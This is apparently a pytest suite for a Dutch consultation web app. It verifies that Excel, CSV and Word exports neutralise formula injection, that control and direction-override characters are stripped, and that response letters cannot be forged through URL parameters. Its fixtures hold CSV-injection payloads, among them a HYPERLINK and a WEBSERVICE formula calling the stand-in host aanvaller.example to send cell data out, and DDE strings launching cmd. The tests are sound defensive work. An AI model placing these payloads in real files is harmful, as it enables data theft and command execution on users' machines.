"""What people open stays a document: typed text never becomes a formula, a field or a link in
Excel, CSV or Word; no stored character breaks an export; and no official letter is made from a
URL. Rows are planted straight into the database where older data would have them."""

import csv
import io
import json
import re
import zipfile

import pytest
import sqlalchemy as sa
from docx import Document
from openpyxl import load_workbook
from pydantic import ValidationError
from sqlmodel import SQLModel, select

from consult import rowimport
from consult.cleantext import clean_text, clean_value
from consult.db import get_session
from consult.extract import extract_text
from consult.models import (
    AuditEvent,
    Consultation,
    Destination,
    Point,
    PointCreate,
    Reaction,
    Response,
    ResponseDestination,
    ResponsePoint,
    Stakeholder,
)

from .conftest import Actor, csrf_token, empty_database, make_app, reopen, take_steps

SLUG = "holland-rijnland-jeugdhulp-2016"
TABLE = f"/consultaties/{SLUG}/tabel"
BOARD = "WMO Adviesraad Leiden"

# The example from the outside attack, and more members of its kind: OWASP's formula starts
# (= + - @ tab CR), a DDE payload, a newline or spaces before the sign, full-width signs.
EXAMPLE = '=HYPERLINK("http://aanvaller.example/?d="&H2,"Bekijk bijlage")'
FORMULAS = [
    EXAMPLE,
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=WEBSERVICE(\"http://aanvaller.example\")",
    "\uff1d1+1",
    "%0A=1+1",
    "|=1+1",
]
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", " ", "|", "%", "\uff1d", "\uff0b", "\uff0d",
         "\uff20")
# Characters no XML document can hold (and their XML-legal but invisible relatives).
CONTROLS = "\x01\x1b\x08\x7f\x9f\ufffe\uffff"
UNFIT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def _plant(app, **updates) -> dict:
    """Write texts straight into the board's rows (no validation, as older data has them):
    stakeholder, parent (its municipality), title, headings/bodies (lists, one per point),
    answer, destination, consultation. Returns the ids used."""
    with app.app_context():
        session = get_session()
        board = session.exec(select(Stakeholder).where(Stakeholder.name == BOARD)).one()
        reaction = session.exec(select(Reaction).where(Reaction.stakeholder_id == board.id)
                                ).first()
        points = session.exec(select(Point).where(Point.reaction_id == reaction.id)
                              .order_by(Point.position)).all()
        response_id = session.exec(select(ResponsePoint.response_id).where(
            ResponsePoint.point_id == points[0].id)).first()
        destination_id = session.exec(select(ResponseDestination.destination_id).where(
            ResponseDestination.response_id == response_id)).first()

        def put(model, row_id, **values):
            session.execute(sa.update(model).where(model.id == row_id).values(**values))

        if "stakeholder" in updates:
            put(Stakeholder, board.id, name=updates["stakeholder"])
        if "parent" in updates:
            put(Stakeholder, board.parent_id, name=updates["parent"])
        if "title" in updates:
            put(Reaction, reaction.id, title=updates["title"])
        for point, heading in zip(points, updates.get("headings", []), strict=False):
            put(Point, point.id, heading=heading)
        for point, body in zip(points, updates.get("bodies", []), strict=False):
            put(Point, point.id, body=body, body_html=None)  # older data, as the answer
        if "answer" in updates:  # older data: no rendered HTML yet either
            put(Response, response_id, body=updates["answer"], body_html=None)
        if "destination" in updates:
            put(Destination, destination_id, title=updates["destination"])
        if "consultation" in updates:
            consultation = session.exec(select(Consultation)).one()
            put(Consultation, consultation.id, title=updates["consultation"],
                document=updates["consultation"], organiser=updates["consultation"])
        session.commit()
        return {"board": board.id}


def _every_formula(app) -> dict:
    """The formulas in every field the exports show."""
    return _plant(
        app, stakeholder=EXAMPLE, parent=FORMULAS[1], title=FORMULAS[2],
        headings=FORMULAS[3:9], bodies=FORMULAS[5:11], answer=FORMULAS[4],
        destination=FORMULAS[9],
    )


def _words(text: str) -> str:
    return " ".join(text.split())


def _docx_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("word/document.xml").decode("utf-8")


def _assert_plain_word(data: bytes, texts) -> None:
    """No field, field code or hyperlink in the document; every text there, as text."""
    xml = _docx_xml(data)
    for live in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink", "HYPERLINK \""):
        assert live not in xml, live
    document = Document(io.BytesIO(data))
    shown = [p.text for p in document.paragraphs]
    shown += [c.text for t in document.tables for r in t.rows for c in r.cells]
    shown = _words("\n".join(shown))
    for text in texts:
        assert _words(text) in shown, text


# --- formulas -----------------------------------------------------------------------------


def test_the_published_excel_table_holds_text_never_formulas(demo_app):
    _every_formula(demo_app)
    response = demo_app.test_client().get(TABLE + ".xlsx")  # anyone: the table is published
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for formula in FORMULAS:
        assert formula.replace("\r", "\n") in values or formula in values, formula
    # Edited in Excel, a cell that starts like a formula stays text (the quote prefix).
    risky = [c for c in cells if str(c.value).lstrip().startswith(("=", "+", "-", "@"))]
    assert risky and all(c.quotePrefix for c in risky)


def test_csv_cells_never_start_a_formula_and_import_as_typed(demo_app, tmp_path):
    _every_formula(demo_app)
    text = demo_app.test_client().get(TABLE + ".csv").data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert len(rows) == 1 + 204 + 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(SIGNS), cell
    cells = {cell for row in rows for cell in row}
    assert "'" + EXAMPLE in cells and "'-2+3+cmd\\|' /C calc'!A0" in cells
    # Read back by our own import, the cells are the texts again (leading space aside); the
    # reaction's title and the municipality are no columns the import reads.
    imported = rowimport.read_rows("tabel.csv", text.encode("utf-8"))
    typed = {v for row in imported for v in row.values.values()}
    for formula in [EXAMPLE, *FORMULAS[3:]]:
        assert formula.strip() in typed, formula


def test_word_table_and_letter_have_no_fields_or_links(demo_app):
    ids = _every_formula(demo_app)
    table = demo_app.test_client().get(TABLE + ".docx")
    assert table.status_code == 200
    _assert_plain_word(table.data, FORMULAS)
    secretary = Actor(demo_app.test_client(), "secretary")
    letter = secretary.get(f"/consultaties/{SLUG}/antwoordbrieven/{ids['board']}.docx")
    assert letter.status_code == 200
    _assert_plain_word(letter.data, [EXAMPLE, *FORMULAS[3:11]])


def test_an_advisory_boards_formula_is_text_in_the_published_table(demo_app):
    reopen(demo_app)  # boards submit while the round is open; then it is published again
    board = Actor(demo_app.test_client(), "advisory_member")
    sent = board.form_post(f"/portaal/{SLUG}/concept", {
        "title": "+Advies", "text": f"1. {EXAMPLE}\n2. @SUM(1+1)", "version": 1, "submit": "1"})
    assert sent.status_code == 303, sent.get_data(as_text=True)
    take_steps(demo_app, "close", ("decide", "PHO Jeugdhulp", "2015-12-16"), "publish")
    anyone = demo_app.test_client()
    sheet = load_workbook(io.BytesIO(anyone.get(TABLE + ".xlsx").data)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value == EXAMPLE]
    assert found and all(c.data_type == "s" for c in found)
    rows = list(csv.reader(io.StringIO(anyone.get(TABLE + ".csv").data.decode()[1:]),
                           delimiter=";"))
    assert ["'+Advies", "'" + EXAMPLE] == [rows[-2][4], rows[-2][7]]


# --- control characters -------------------------------------------------------------------


def _plant_controls(app) -> dict:
    nul = "\x00" if app.config["DATABASE_URL"].startswith("sqlite") else ""  # PG refuses NUL
    dirty = f"Stuur{CONTROLS}{nul}teken"
    return _plant(
        app, stakeholder=f"Adviesraad {dirty}", parent=f"Leiden {dirty}",
        title=f"Advies {dirty}", headings=[f"Kop {dirty}"], answer=f"Antwoord {dirty}",
        bodies=[f"Punt {dirty}\x0cna de paginagrens", f"Tweede {dirty}"],
        destination=f"Bestemming {dirty}", consultation=f"Consultatie {dirty}",
    )


def test_a_stored_control_character_breaks_no_export(demo_app, tmp_path):
    ids = _plant_controls(demo_app)
    anyone = demo_app.test_client()
    for fmt in ("docx", "xlsx", "csv"):
        response = anyone.get(f"{TABLE}.{fmt}")
        assert response.status_code == 200, fmt
        assert not UNFIT.search(response.data.decode("utf-8", "replace")) or fmt != "csv"
    document = Document(io.BytesIO(anyone.get(TABLE + ".docx").data))
    cells = "\n".join(c.text for r in document.tables[0].rows for c in r.cells)
    assert "Punt Stuurteken" in cells and "Antwoord Stuurteken" in cells
    sheet = load_workbook(io.BytesIO(anyone.get(TABLE + ".xlsx").data)).active
    assert "Adviesraad Stuurteken" in {c.value for row in sheet.iter_rows() for c in row}
    for page in (TABLE, f"/consultaties/{SLUG}/openbaar", f"/indieners/{ids['board']}"):
        assert anyone.get(page).status_code == 200, page
    secretary = Actor(demo_app.test_client(), "secretary")
    letter = secretary.get(f"/consultaties/{SLUG}/antwoordbrieven/{ids['board']}.docx")
    assert letter.status_code == 200
    text = "\n".join(p.text for p in Document(io.BytesIO(letter.data)).paragraphs)
    assert "Punt Stuurteken\nna de paginagrens" in text and "Consultatie Stuurteken" in text
    runner = demo_app.test_cli_runner()
    for fmt in ("docx", "xlsx", "csv", "json", "letters"):
        out = tmp_path / f"uit-{fmt}"
        result = runner.invoke(args=["consult", "export", SLUG, "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, (fmt, result.output)
    # 21 senders of points and Duin- en Bollenstreek, whose reaction was answered as a whole.
    assert len(list((tmp_path / "uit-letters").iterdir())) == 22


def test_the_archive_round_trip_keeps_formulas_and_drops_controls(demo_app, tmp_path):
    _every_formula(demo_app)
    runner = demo_app.test_cli_runner()
    first = tmp_path / "eerste.json"
    assert runner.invoke(args=["consult", "export", SLUG, "--format", "json", "-o",
                               str(first)]).exit_code == 0
    data = json.loads(first.read_text(encoding="utf-8"))
    # Older data with control characters, as another instance could hand it over.
    data["reactions"][0]["points"][0]["body"] = f"Punt {CONTROLS}\ud800met stuurtekens"
    data["reactions"][0]["title"] = "Brief\x1b"
    data["consultation"]["letter_opening"] = "Beste {stakeholder},\x01"
    dirty = tmp_path / "vuil.json"
    dirty.write_text(json.dumps(data), encoding="utf-8")  # ASCII: the surrogate as \\ud800
    elsewhere = tmp_path / "elders"
    elsewhere.mkdir()
    other = make_app(empty_database("sqlite", elsewhere), elsewhere)
    try:
        done = other.test_cli_runner().invoke(args=["consult", "import", str(dirty)])
        assert done.exit_code == 0, done.output
        second = tmp_path / "tweede.json"
        again = other.test_cli_runner().invoke(
            args=["consult", "export", SLUG, "--format", "json", "-o", str(second)])
        assert again.exit_code == 0, again.output
        back = json.loads(second.read_text(encoding="utf-8"))
        assert back == clean_value(data)
        assert back["reactions"][0]["points"][0]["body"] == "Punt met stuurtekens"
        assert EXAMPLE in {s["name"] for s in back["stakeholders"]}
    finally:
        other.extensions["consult.engine"].dispose()


def _unfit_in_database(app) -> list[str]:
    """Every stored text (JSON columns too) that holds a character XML cannot."""
    found = []
    with app.app_context():
        session = get_session()
        for table in SQLModel.metadata.sorted_tables:
            columns = [c for c in table.columns  # SQLModel's AutoString wraps a String
                       if isinstance(getattr(c.type, "impl", c.type), sa.String | sa.JSON)]
            for row in session.execute(sa.select(*columns)) if columns else []:
                for column, value in zip(columns, row, strict=True):
                    text = value if isinstance(value, str) else json.dumps(value,
                                                                           ensure_ascii=False)
                    if value is not None and UNFIT.search(text):
                        found.append(f"{table.name}.{column.name}: {text[:60]!r}")
    return found


MARK = "Stuur\x1bteken\x01"  # stored as "Stuurteken"


def test_every_way_in_strips_control_characters(demo_app, tmp_path):
    assert _unfit_in_database(demo_app) == []
    secretary = Actor(demo_app.test_client(), "secretary")
    base = f"/consultaties/{SLUG}"
    # Pasted: a new stakeholder, a title, the points. A name with control characters is
    # refused with a message (the registry: a name is what people search and match on).
    form = {"new_stakeholder_name": f"Raad {MARK}", "channel": "collegebrief",
            "title": f"Brief {MARK}", "text": f"1. Eerste {MARK} punt.\n2. Tweede\x0cpunt."}
    refused = secretary.hx_post(base + "/reacties", form)
    assert refused.status_code == 422
    assert "onzichtbare tekens of stuurtekens" in refused.get_data(as_text=True)
    pasted = secretary.hx_post(base + "/reacties", {
        **form, "new_stakeholder_name": "Raad Stuurteken", "stakeholder_match": "nieuw",
        "stakeholder_match_voor": "Raad Stuurteken"})
    assert pasted.status_code == 201, pasted.get_data(as_text=True)
    # Uploaded: a text file with a control character in its text and its name.
    letter = ("1. Geüpload punt " + MARK + ".\n" + "Meer tekst zonder stuurtekens. " * 10)
    uploaded = secretary.client.post(base + "/reacties", data={
        "csrf_token": secretary.token, "stakeholder_id": "1", "channel": "collegebrief",
        "file": (io.BytesIO(letter.encode()), "brief\x1b.txt")},
        headers={"HX-Request": "true"})
    assert uploaded.status_code == 201, uploaded.get_data(as_text=True)
    with demo_app.app_context():
        session = get_session()
        point = session.exec(select(Point).where(Point.body.startswith("Eerste Stuur"))).one()
        reaction = session.get(Reaction, point.reaction_id)
        destination = session.exec(select(Destination)).first()
    answered = secretary.hx_post(f"{base}/reacties/{reaction.id}/antwoorden", {
        "selection": "1", "body": f"Genoteerd {MARK}", "status": "adopted",
        "decided_by": f"PHO {MARK}", "destination_ids": str(destination.id)})
    assert answered.status_code == 200, answered.get_data(as_text=True)
    with demo_app.app_context():
        response = get_session().exec(select(Response).where(
            Response.body.contains("Genoteerd"))).one()
    assert secretary.form_post(f"{base}/antwoorden/{response.id}/bewerken", {
        "version": 1, "body": f"Herzien {MARK}", "status": "adopted",
        "destination_ids": str(destination.id)}).status_code == 303
    assert secretary.form_post(base + "/bestemmingen", {"title": f"Nieuw {MARK}"}
                               ).status_code == 303
    assert secretary.form_post(f"{base}/bestemmingen/{destination.id}/hernoemen",
                               {"title": f"Hernoemd {MARK}"}).status_code == 303
    assert secretary.hx_post(f"{base}/punten/{point.id}/berichten",
                             {"body": f"Vraag {MARK}"}).status_code == 204
    assert secretary.form_post(base + "/toezeggingen", {
        "response_id": response.id, "description": f"Terugkoppelen {MARK}",
        "owner": f"TWO {MARK}", "due_meeting": f"PHO {MARK}"}).status_code == 303
    with demo_app.app_context():
        from consult.models import Commitment

        commitment = get_session().exec(select(Commitment)).one()
    assert secretary.form_post(f"{base}/toezeggingen/{commitment.id}/status", {
        "status": "done", "evidence": f"Inkoopplan {MARK}"}).status_code == 303
    assert secretary.hx_post(f"{base}/bestemmingen/{destination.id}/punten/{point.id}/geland",
                             {"reference": f"§ 4.3 {MARK}"}).status_code == 200
    assert secretary.form_post(base + "/antwoordbrieven", {
        "opening": f"Beste {MARK}", "closing": f"Groet {MARK}"}).status_code == 303
    reopen(demo_app)  # boards submit while the round is open
    board = Actor(demo_app.test_client(), "advisory_member")
    assert board.form_post(f"/portaal/{SLUG}/concept", {
        "title": f"Advies {MARK}", "text": f"1. Adviespunt {MARK}", "version": 1,
        "submit": "1"}).status_code == 303
    admin = Actor(demo_app.test_client(), "admin")
    assert admin.form_post("/beheer/gebruikers", {
        "email": "nieuw@consult.example", "name": f"Nieuwe {MARK}", "role": "viewer",
    }).status_code == 200
    table = tmp_path / "rijen.csv"
    table.write_text("Indiener;Kanaal;Nummer;Kop;Tekst\n"
                     f"Leiden;collegebrief;1;Kop {MARK};Geïmporteerd {MARK}\n", encoding="utf-8")
    imported = demo_app.test_cli_runner().invoke(
        args=["consult", "import", str(table), "--consultation", SLUG])
    assert imported.exit_code == 0, imported.output

    assert _unfit_in_database(demo_app) == []
    with demo_app.app_context():
        session = get_session()
        stored = {
            "points": session.exec(select(Point.body).where(Point.body.contains("Stuurteken"))
                                   ).all(),
            "audit": session.exec(select(AuditEvent).where(AuditEvent.entity == "consultation")
                                  ).all(),
        }
        texts = [
            session.exec(select(Stakeholder.name).where(Stakeholder.name.contains("Raad S"))
                         ).one(),
            session.exec(select(Reaction.title).where(Reaction.title.contains("Brief S"))).one(),
            session.exec(select(Consultation.letter_opening)).one(),
        ]
    assert texts == ["Raad Stuurteken", "Brief Stuurteken", "Beste Stuurteken"]
    bodies = stored["points"]
    for body in ("Eerste Stuurteken punt.", "Geüpload punt Stuurteken.", "Adviespunt Stuurteken",
                 "Geïmporteerd Stuurteken"):
        assert any(b.startswith(body) for b in bodies), body
    assert stored["audit"]  # the letter texts' change is in the audit trail


def test_cleaning_keeps_text_and_lines_and_refuses_what_is_left_empty():
    assert clean_text("Tab\tLF\nCR\r\n€ ë “x” 😀 \u2028") == "Tab\tLF\nCR\r\n€ ë “x” 😀 \u2028"
    assert clean_text(f"a{CONTROLS}\x00\ud800b") == "ab"
    assert clean_text("regel\x0bregel\x0cpagina\x85volgende") == "regel\nregel\npagina\nvolgende"
    # direction overrides and isolates (Trojan Source): gone; Arabic and Hebrew text stays
    assert clean_text("factuur\u202etxt.exe") == "factuurtxt.exe"
    assert clean_text("a\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069b") == "ab"
    assert clean_text("Stichting السلام en שלום") == "Stichting السلام en שלום"
    assert extract_text("brief.txt", b"1. Punt\x1b een.\n2. Punt\x0ctwee.\n" + b"x" * 400
                        ).startswith("1. Punt een.\n2. Punt\ntwee.")
    with pytest.raises(ValidationError):
        PointCreate(reaction_id=1, number="1", body="\x01\x1b")
    assert PointCreate(reaction_id=1, number="1", body="Goed\x01").body == "Goed"


# --- the letter ---------------------------------------------------------------------------


def test_no_letter_from_a_url(demo_app):
    board = demo_app.test_client()
    with demo_app.app_context():
        board_id = get_session().exec(select(Stakeholder.id).where(Stakeholder.name == BOARD)
                                      ).one()
    forged = {"consultatie": SLUG, "opening": "Wij erkennen hierbij uw schadeclaim van EUR 1 mln.",
              "slot": "De voorzitter", "alleen": "1"}
    # The old address is gone for everyone, with or without an account.
    assert board.get(f"/indieners/{board_id}/brief.docx", query_string=forged
                     ).status_code == 404
    letter = f"/consultaties/{SLUG}/antwoordbrieven/{board_id}.docx"
    anonymous = board.get(letter, query_string=forged)
    assert anonymous.status_code == 302 and "/inloggen" in anonymous.headers["Location"]
    for role in ("viewer", "councillor", "advisory_member"):  # the secretariat's: 404 (access.py)
        assert Actor(demo_app.test_client(), role).get(letter).status_code == 404, role
    # A secretary, but of other consultations: not this one's letters, nor its texts.
    with demo_app.app_context():
        from consult.accounts import create_user

        session = get_session()
        create_user(session, password="elders-secretaris-2026", email="elders@consult.example",
                    name="Elders Secretaris", role="secretary")
        session.commit()
    outsider = Actor(demo_app.test_client(), None)
    assert outsider.form_post("/inloggen", {"email": "elders@consult.example",
                                            "password": "elders-secretaris-2026"}
                              ).status_code == 303
    outsider.token = csrf_token(outsider.client)
    assert outsider.get(letter).status_code == 404
    assert outsider.form_post(f"/consultaties/{SLUG}/antwoordbrieven",
                              {"opening": "Van buiten", "closing": ""}).status_code == 403
    secretary = Actor(demo_app.test_client(), "secretary")
    made = secretary.get(letter, query_string=forged)
    assert made.status_code == 200
    text = "\n".join(p.text for p in Document(io.BytesIO(made.data)).paragraphs)
    assert "schadeclaim" not in text and "De voorzitter" not in text
    assert "Hartelijk dank voor uw reactie op" in text
    # Storing the texts is a POST with the form's token.
    unsigned = secretary.client.post(f"/consultaties/{SLUG}/antwoordbrieven",
                                     data={"opening": "Zonder token", "closing": "x"})
    assert unsigned.status_code == 400
    assert secretary.get(f"/consultaties/{SLUG}/antwoordbrieven?opening=Via+de+URL"
                         ).status_code == 200
    with demo_app.app_context():
        assert get_session().exec(select(Consultation.letter_opening)).one() == ""


def test_secretaries_keep_the_letter_texts(demo_app, tmp_path):
    secretary = Actor(demo_app.test_client(), "secretary")
    page = f"/consultaties/{SLUG}/antwoordbrieven"
    form = secretary.get(page).get_data(as_text=True)
    assert "Hartelijk dank voor uw reactie op {document}" in form and BOARD in form
    too_long = secretary.form_post(page, {"opening": "x" * 5001, "closing": "Groet"})
    assert too_long.status_code == 422
    html = too_long.get_data(as_text=True)
    assert "mogen elk ten hoogste 5000 tekens lang zijn" in html and "x" * 5001 in html
    saved = secretary.form_post(page, {"opening": "Geachte {stakeholder},\n\nDank voor {document}.",
                                       "closing": "Hoogachtend,\n\n{organiser}"})
    assert saved.status_code == 303
    assert "zijn opgeslagen" in secretary.get(saved.headers["Location"]).get_data(as_text=True)
    with demo_app.app_context():
        session = get_session()
        consultation = session.exec(select(Consultation)).one()
        events = session.exec(select(AuditEvent).where(
            AuditEvent.entity == "consultation", AuditEvent.entity_id == consultation.id)
            .order_by(AuditEvent.id)).all()
        event = [e for e in events if (e.after or {}).get("letter_opening")][-1]
        assert event.before["letter_opening"] == ""
        assert event.after["letter_opening"].startswith("Geachte {stakeholder}")
    result = demo_app.test_cli_runner().invoke(
        args=["consult", "export", SLUG, "--format", "letters", "-o", str(tmp_path / "b")])
    assert result.exit_code == 0, result.output
    letter = Document(str(tmp_path / "b" / "antwoordbrief-leiden-wmo.docx"))
    paragraphs = [p.text for p in letter.paragraphs]
    assert f"Geachte {BOARD}," in paragraphs and "Hoogachtend," in paragraphs
    assert "Hartelijk dank voor uw reactie op" not in "\n".join(paragraphs)
    # Emptied, the standard texts are back.
    assert secretary.form_post(page, {"opening": " ", "closing": ""}).status_code == 303
    with demo_app.app_context():
        assert get_session().exec(select(Consultation.letter_opening)).one() == ""
